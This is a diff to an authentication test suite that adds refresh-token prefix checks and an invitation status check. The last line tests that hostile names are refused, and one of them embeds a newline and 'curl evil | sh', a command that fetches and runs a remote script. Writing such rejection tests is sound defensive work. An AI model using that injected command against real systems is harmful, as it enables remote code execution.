@@ -90,6 +90,7 @@ describe('a session that a password opened', () => {
     })
     await expect(Session.refresh(anyone(), { refreshToken: ada.refreshToken })).resolves.toMatchObject({
       tokenType: 'Bearer',
+      refreshToken: expect.stringMatching(/^cor_/),
     })
     const details = (await AuditLog.list(ada.ctx, { action: 'auth.refresh' })).entries.flatMap(
       ({ detail }) => detail ?? [],
@@ -105,7 +106,10 @@ describe('a session that a password opened', () => {
     const user = await User.load(ada.ctx, bob.userId)
     for (const method of ['openid', 'command-line'] as const) {
       const { refreshToken } = await Session.open(ada.ctx, user, method)
-      await expect(Session.refresh(anyone(), { refreshToken })).resolves.toMatchObject({ tokenType: 'Bearer' })
+      await expect(Session.refresh(anyone(), { refreshToken })).resolves.toMatchObject({
+        tokenType: 'Bearer',
+        refreshToken: expect.stringMatching(/^cor_/),
+      })
     }
   })
 })
@@ -163,7 +167,10 @@ describe('a user with an unverified address', () => {
       orgId: first.organizationId,
       actor: { id: first.userId, role: 'admin' },
     })
-    await expect(Login.login(anyone(), { email, password })).resolves.toMatchObject({ tokenType: 'Bearer' })
+    await expect(Login.login(anyone(), { email, password })).resolves.toMatchObject({
+      tokenType: 'Bearer',
+      refreshToken: expect.stringMatching(/^cor_/),
+    })
   })
 })
 
@@ -179,6 +186,7 @@ describe('no caller grants more than it has', () => {
     const ctx = await as(key)
     await expect(Invitations.create(ctx, { email: 'x@example.com', role: 'viewer' })).resolves.toMatchObject({
       role: 'viewer',
+      status: 'open',
     })
     expect(await refusal(Invitations.create(ctx, { email: 'y@example.com', role: 'admin' }))).toMatchObject({
       code: 'forbidden',
@@ -279,7 +287,10 @@ test("an admin revokes another user's sessions; that user may sign in again", as
   const bob = await join(ada, 'viewer')
   expect(await Members.endSessions(ada.ctx, { id: bob.userId })).toEqual({ ended: 1 })
   expect(await refusal(as(bob.accessToken))).toMatchObject({ code: 'unauthenticated' })
-  await expect(Login.login(anyone(), { email: bob.email, password })).resolves.toMatchObject({ tokenType: 'Bearer' })
+  await expect(Login.login(anyone(), { email: bob.email, password })).resolves.toMatchObject({
+    tokenType: 'Bearer',
+    refreshToken: expect.stringMatching(/^cor_/),
+  })
 })
 
 test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is refused as a name', async (name) => {
